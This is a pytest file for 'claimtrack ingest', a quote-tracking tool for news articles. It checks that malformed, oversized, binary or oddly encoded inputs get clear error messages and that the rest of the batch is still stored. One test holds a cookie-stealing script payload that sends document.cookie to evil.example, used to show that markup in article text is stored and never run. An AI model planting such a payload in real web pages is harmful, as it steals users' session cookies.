"""Bad inputs on `claimtrack ingest`: each is named with the exact message the user sees, the batch goes on.

Every case ingests a folder holding the bad input between two good articles (``0_good.txt`` sorts
before it, ``z_good.txt`` after). Refused inputs give exit code 1 and one ``Skipped PATH: why``
line each on standard error; inputs that are read give exit code 0, nothing on standard error,
and their text stored verbatim with offsets that give back every quote. Small inputs live in
``tests/bad_inputs/``; the large ones (50 MB, 1 MB line, deep nesting) are written at test time.
"""

import json
import random
import signal
from contextlib import contextmanager

import pytest
import sqlite_utils
from click.testing import CliRunner

import claimtrack.cli
import claimtrack.extracting.pipeline
import claimtrack.ingest
import claimtrack.parallel
from claimtrack import storage
from claimtrack.cli import cli
from claimtrack.speakers import identity

from .conftest import SEEDS

CORPUS = SEEDS.parent / "tests" / "bad_inputs"
SHOIGU = (SEEDS / "000_2339bdc2ebd3f11c.txt").read_text(encoding="utf-8")
PURNA = (SEEDS / "002_930ba2d2ccba52e4.txt").read_text(encoding="utf-8")
ENV = {"COLUMNS": "200"}


@pytest.fixture(autouse=True)
def shared_pipeline(nlp, monkeypatch):
    """Every ingest reuses one pipeline (building one takes seconds); messages do not depend on it."""
    monkeypatch.setattr(claimtrack.extracting.pipeline, "load_pipeline", lambda: nlp)


def folder_with(tmp_path, name, data):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "0_good.txt").write_text(SHOIGU, encoding="utf-8")
    (folder / name).write_bytes(data)
    (folder / "z_good.txt").write_text(PURNA, encoding="utf-8")
    return folder


def ingest(folder):
    return CliRunner().invoke(cli, ["ingest", str(folder)], env=ENV)


def stored_articles():
    return {row["source"]: row for row in storage.open_database()["articles"].rows}


def assert_offsets_true(article_id):
    db = storage.open_database()
    text = db["articles"].get(article_id)["text"]
    quotes = list(db["quotes"].rows_where("article_id = ?", [article_id]))
    assert all(text[q["start"] : q["end"]] == q["text"] for q in quotes), quotes
    return quotes


def corpus(name):
    return (CORPUS / name).read_bytes()


# --- refused: one line on standard error, exit 1, the good files stored ----------------------------

REFUSED = [
    ("whitespace.txt", corpus("whitespace.txt"), "the file is empty; there is no article to read."),
    ("png_image.txt", corpus("png_image.txt"), "this looks like a binary file (it contains NUL bytes), not article text."),
    ("nul_early.txt", corpus("nul_early.txt"), "this looks like a binary file (it contains NUL bytes), not article text."),
    ("html_page_after_bom.txt", corpus("html_page_after_bom.txt"),
     "this text holds HTML, not article text; save it as .html to have it read as a page."),
    ("array.json", corpus("array.json"), "expected a JSON object with a 'content' field, got list."),
    ("fifty_mb.txt", None, "50,000,000 characters is more than one article (the limit is 1,000,000); split it into one file per "
     "article, or convert it to JSON Lines with one article per line."),
    ("one_mb_line.txt", None, "1,048,576 characters is more than one article (the limit is 1,000,000); split it into one file per "
     "article, or convert it to JSON Lines with one article per line."),
]
GENERATED = {
    "fifty_mb.txt": lambda: b"kata dia. " * 5_000_000,
    "one_mb_line.txt": lambda: b"x" * (1 << 20),
}


@pytest.mark.parametrize(("name", "data", "message"), REFUSED, ids=[case[0] for case in REFUSED])
def test_refused_input_is_named_with_its_fix_and_the_batch_goes_on(tmp_path, name, data, message):
    folder = folder_with(tmp_path, name, data if data is not None else GENERATED[name]())
    result = ingest(folder)
    where = f"{folder / name}:1" if name.endswith(".json") else folder / name  # JSON is read line by line
    assert result.stderr == f"Skipped {where}: {message}\n"
    assert result.exit_code == 1
    assert set(stored_articles()) == {"0_good.txt", "z_good.txt"}


JSON_LINES = {
    # A line cut mid-string ends in its newline, a control character; `at at` is json's message plus ours.
    2: "not valid JSON (Invalid control character at column 55).",
    3: "the 'content' field is a float, not text; name the text field with --field text=NAME.",
    4: "the 'content' field is a list, not text; name the text field with --field text=NAME.",
    5: "the 'content' field is missing; name the text field with --field text=NAME.",
    6: "the 'content' field is a bool, not text; name the text field with --field text=NAME.",
    7: "the 'content' field is a dict, not text; name the text field with --field text=NAME.",
    9: "not valid JSON (Expecting property name enclosed in double quotes at column 2).",
    10: "not valid JSON (Expecting property name enclosed in double quotes at column 35).",
}


def test_malformed_and_wrongly_typed_json_lines_are_each_named_by_line(tmp_path):
    folder = folder_with(tmp_path, "malformed.jsonl", corpus("malformed.jsonl"))
    result = ingest(folder)
    path = folder / "malformed.jsonl"
    *skipped, warning = result.stderr.splitlines()
    assert skipped == [f"Skipped {path}:{line}: {why}" for line, why in JSON_LINES.items()]
    # A date that is a list is no date: the article is dated by its text (Rabu (20/9): the year depends on today).
    assert warning.startswith(f"Warning {path}:8: the 'date' field '[\"2023-09-20\"]' is not a date claimtrack reads ")
    assert warning.endswith("from its text instead.")
    assert result.exit_code == 1
    articles = stored_articles()
    assert set(articles) == {"0_good.txt", "z_good.txt", "ok-1", "title-dict"}
    # A title that is an object, a date that is a list, a URL that is a number: ignored, derived from the text.
    typed = articles["title-dict"]
    assert (typed["url"], typed["title"], typed["date_source"]) == ("7", None, "weekday")


def test_a_pretty_printed_json_file_is_refused_line_by_line(tmp_path):
    folder = folder_with(tmp_path, "pretty.json", corpus("pretty.json"))
    result = ingest(folder)
    path = folder / "pretty.json"
    assert result.stderr.splitlines() == [
        f"Skipped {path}:1: not valid JSON (Expecting property name enclosed in double quotes at column 1).",
        f"Skipped {path}:2: not valid JSON (Extra data at column 7).",
        f"Skipped {path}:3: not valid JSON (Extra data at column 12).",
        f"Skipped {path}:4: not valid JSON (Expecting value at column 1).",
    ]
    assert result.exit_code == 1
    assert set(stored_articles()) == {"0_good.txt", "z_good.txt"}


@pytest.mark.parametrize(
    ("nesting", "message"),
    [
        ('{"content": ' * 100_000 + '"x"' + "}" * 100_000, "the JSON is nested too deeply to be an article."),
        ('{"content": ' * 500 + '"x"' + "}" * 500, "the 'content' field is a dict, not text; name the text field with --field text=NAME."),
        ('{"content": "x", "title": ' + "[" * 200_000 + "]" * 200_000 + "}", "the JSON is nested too deeply to be an article."),
    ],
    ids=["objects-100k-deep", "objects-500-deep", "title-list-200k-deep"],
)
def test_deeply_nested_json(tmp_path, nesting, message):
    folder = folder_with(tmp_path, "deep.jsonl", nesting.encode() + b"\n")
    result = ingest(folder)
    assert result.stderr == f"Skipped {folder / 'deep.jsonl'}:1: {message}\n"
    assert result.exit_code == 1
    assert set(stored_articles()) == {"0_good.txt", "z_good.txt"}


# --- read: exit 0, the text stored verbatim, offsets true ---------------------------------------

READ = [
    ("cp1252.txt", "cp1252"),
    ("latin1_c1_control.txt", "latin-1"),
    ("bom_crlf.txt", "utf-8-sig"),
    # Notepad's "Unicode": UTF-16 with a byte-order mark.
    ("utf16_notepad.txt", "utf-16"),
    ("cr_only.txt", "utf-8"),
    # Tags inside prose are article text (a story may quote markup); only a whole page is refused.
    ("html_fragment.txt", "utf-8"),
    ("script_in_prose.txt", "utf-8"),
    # NUL is looked for in the first 8 KB only; a later one is kept as a character of the text.
    ("nul_late.txt", "utf-8"),
]


@pytest.mark.parametrize(("name", "encoding"), READ, ids=[case[0] for case in READ])
def test_odd_but_readable_text_is_stored_verbatim(tmp_path, name, encoding):
    data = corpus(name)
    folder = folder_with(tmp_path, name, data)
    result = ingest(folder)
    assert result.stderr == ""
    assert result.exit_code == 0
    articles = stored_articles()
    assert set(articles) == {"0_good.txt", name, "z_good.txt"}
    article = articles[name]
    assert article["encoding"] == encoding
    expected = data.decode("utf-8-sig" if encoding == "utf-8" else encoding)
    assert article["text"] == expected
    assert assert_offsets_true(article["id"])


def test_script_and_markup_in_article_text_are_stored_verbatim_never_run(tmp_path):
    folder = folder_with(tmp_path, "script_in_prose.txt", corpus("script_in_prose.txt"))
    assert ingest(folder).exit_code == 0
    result = CliRunner().invoke(cli, ["quotes", "--json"], env=ENV)
    texts = [json.loads(line)["text"] for line in result.output.splitlines()]
    assert "<script>fetch('https://evil.example/'+document.cookie)</script> Sanksi terhadap Rusia terbukti sia-sia," in texts
    assert "Kami tidak takut ancaman [bold]apa pun[/bold]," in texts
    table = CliRunner().invoke(cli, ["quotes", "--speaker", "Shoigu"], env=ENV)
    assert table.exit_code == 0
    assert "[bold]apa pun[/bold]" in table.output  # shown as written, not turned into bold


def test_five_thousand_unbalanced_marks_spread_through_an_article(tmp_path):
    chars = list(PURNA)
    rng = random.Random(9)
    for _ in range(5000):
        chars.insert(rng.randrange(len(chars)), rng.choice("“”\"‘’"))
    folder = folder_with(tmp_path, "marks.txt", "".join(chars).encode())
    result = ingest(folder)
    assert (result.stderr, result.exit_code) == ("", 0)
    assert assert_offsets_true(stored_articles()["z_good.txt"]["id"])
    assert_offsets_true(stored_articles()["marks.txt"]["id"])


# --- claimtrack's own failures: named with a traceback, rolled back, the batch goes on --------------
# No article is known to crash the extractor or the store, so the bug is planted by monkeypatching.


def failing_for(name, function):
    """``function``, but raising ``RuntimeError("planted bug")`` while the article ``name`` is at work."""
    def wrapped(*args, **kwargs):
        db = args[0] if isinstance(args[0], sqlite_utils.Database) else None
        working_on = (args[0].source if db is None else
                      next(db.query("select source from articles order by id desc limit 1"))["source"])
        if working_on == name:
            raise RuntimeError("planted bug")
        return function(*args, **kwargs)
    return wrapped


def test_an_article_the_extractor_fails_on_is_named_and_the_rest_are_stored(tmp_path, monkeypatch):
    folder = folder_with(tmp_path, "crash.txt", SHOIGU.replace("Shoigu", "Sergei").encode("utf-8"))
    monkeypatch.setattr(claimtrack.extracting.pipeline, "extract", failing_for("crash.txt", claimtrack.extracting.pipeline.extract))
    result = ingest(folder)
    first, _, traceback = result.stderr.partition("\n\n")
    assert first == ("Failed crash.txt: claimtrack failed while extracting it (RuntimeError: planted bug); "
                     "this is a bug, please report it with the traceback")
    assert traceback.startswith("Traceback of the first failure (crash.txt):\nTraceback (most recent call last):")
    assert traceback.rstrip().endswith("RuntimeError: planted bug")
    assert result.exit_code == 1
    assert "failed (claimtrack errors)" in result.stdout
    assert set(stored_articles()) == {"0_good.txt", "z_good.txt"}
    assert assert_offsets_true(stored_articles()["z_good.txt"]["id"])


def test_an_article_the_store_fails_on_leaves_nothing_half_written(tmp_path, monkeypatch):
    """The planted bug strikes after the article's row and quotes are inserted: its transaction is
    rolled back whole, and the next article is stored as if it had never been there."""
    folder = folder_with(tmp_path, "crash.txt", SHOIGU.replace("Shoigu", "Sergei").encode("utf-8"))
    monkeypatch.setattr(identity, "_name_speakers_by_use", failing_for("crash.txt", identity._name_speakers_by_use))
    result = ingest(folder)
    assert result.stderr.startswith("Failed crash.txt: claimtrack failed while storing it (RuntimeError: planted "
                                    "bug)")
    assert result.exit_code == 1
    db = storage.open_database()
    assert set(stored_articles()) == {"0_good.txt", "z_good.txt"}
    assert not list(db["speakers"].rows_where("name = ?", ["Sergei"]))
    ids = [row["id"] for row in db["articles"].rows]
    assert db.execute("select count(*) from quotes where article_id not in (?, ?)", ids).fetchone() == (0,)
    assert assert_offsets_true(stored_articles()["z_good.txt"]["id"])
    assert "no problems found." in CliRunner().invoke(cli, ["check"]).output


def test_an_ingest_stops_when_every_article_fails(tmp_path, monkeypatch):
    """Failures one after another are a broken setup, not bad articles: stop, and say so."""
    folder = tmp_path / "in"
    folder.mkdir()
    for n in range(6):
        (folder / f"{n}.txt").write_text(SHOIGU.replace("Shoigu", f"Shoigu{n}"), encoding="utf-8")
    monkeypatch.setattr(claimtrack.ingest, "MAX_FAILURES_IN_A_ROW", 3)
    real = claimtrack.extracting.pipeline.extract
    monkeypatch.setattr(claimtrack.extracting.pipeline, "extract",
                        lambda article, nlp: 1 / 0 if article.source in ("0.txt", "2.txt", "4.txt") else real(article, nlp))
    result = ingest(folder)  # three failures, but never two in a row: no stop
    assert result.stderr.count("\nFailed ") + result.stderr.startswith("Failed ") == 3
    assert "Stopped" not in result.stderr
    assert result.exit_code == 1
    assert set(stored_articles()) == {"1.txt", "3.txt", "5.txt"}
    monkeypatch.setattr(claimtrack.extracting.pipeline, "extract", lambda article, nlp: 1 / 0)
    (folder / "6.txt").write_text(PURNA, encoding="utf-8")
    result = ingest(folder)
    assert [line.split(":")[0] for line in result.stderr.splitlines() if line.startswith("Failed")] == [
        "Failed 0.txt", "Failed 1.txt", "Failed 2.txt"]
    assert result.stderr.rstrip().endswith("Stopped after 3 failures in a row; the articles after them were not "
                                           "read. Articles stored before stay whole.")
    assert result.exit_code == 1
    assert set(stored_articles()) == {"1.txt", "3.txt", "5.txt"}


# --- bugs these tests found, now fixed: each stays as a regression test ---------------------------


def test_empty_json_lines_file_is_reported(tmp_path):
    folder = folder_with(tmp_path, "empty.jsonl", corpus("empty.jsonl"))
    result = ingest(folder)
    assert result.stderr == f"Skipped {folder / 'empty.jsonl'}: the file is empty; there is no article to read.\n"
    assert result.exit_code == 1


def test_a_utf8_file_with_one_stray_byte_keeps_its_quotes(tmp_path):
    folder = folder_with(tmp_path, "mixed_utf8_cp1252.txt", corpus("mixed_utf8_cp1252.txt"))
    result = ingest(folder)
    assert result.exit_code == 0, result.stderr
    article = stored_articles()["mixed_utf8_cp1252.txt"]
    assert "“Sanksi" in article["text"]
    assert len(assert_offsets_true(article["id"])) == 2


@contextmanager
def deadline(seconds):
    def expire(signum, frame):
        raise TimeoutError(f"not done after {seconds} s")

    previous = signal.signal(signal.SIGALRM, expire)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)


def test_a_long_single_line_article_is_extracted_in_reasonable_time(tmp_path, nlp):
    from claimtrack.articles import parse_article
    from claimtrack.extracting import extract

    line = "“Kami siap,” kata Shoigu di Moskow. " * 5_500  # 198,000 characters, no line break
    with deadline(20):
        quotes = extract(parse_article(line, source="long"), nlp)
    assert len(quotes) == 5_500


def _two_outlets_report(tmp_path, quote, **first):
    records = [
        {"id": "a", "outlet": "Tempo", "url": "https://a.example/1", "content": f"JAKARTA - {quote} kata Menteri Luar Negeri Retno Marsudi di Jakarta.", **first},
        {"id": "b", "outlet": "Kompas", "url": "https://b.example/1", "content": f"JAKARTA - {quote} ujar Menteri Luar Negeri Retno Marsudi di Jakarta."},
    ]
    path = tmp_path / "markup.jsonl"
    path.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    assert CliRunner().invoke(cli, ["ingest", str(path)], env=ENV).exit_code == 0


def test_rich_markup_in_a_quote_is_shown_verbatim_by_claims(tmp_path):
    _two_outlets_report(tmp_path, "“Sanksi [/] itu sama sekali tidak berguna bagi kami,”")
    result = CliRunner().invoke(cli, ["claims"], env=ENV)
    assert result.exit_code == 0, result.exception
    assert "Sanksi [/] itu" in result.output


def test_rich_markup_in_a_url_is_shown_verbatim_by_show(tmp_path):
    _two_outlets_report(tmp_path, "“Sanksi itu sama sekali tidak berguna bagi kami,”", url="https://a.example/[/]")
    result = CliRunner().invoke(cli, ["show", "1"], env=ENV)
    assert result.exit_code == 0, result.exception
    assert "https://a.example/[/]" in result.output
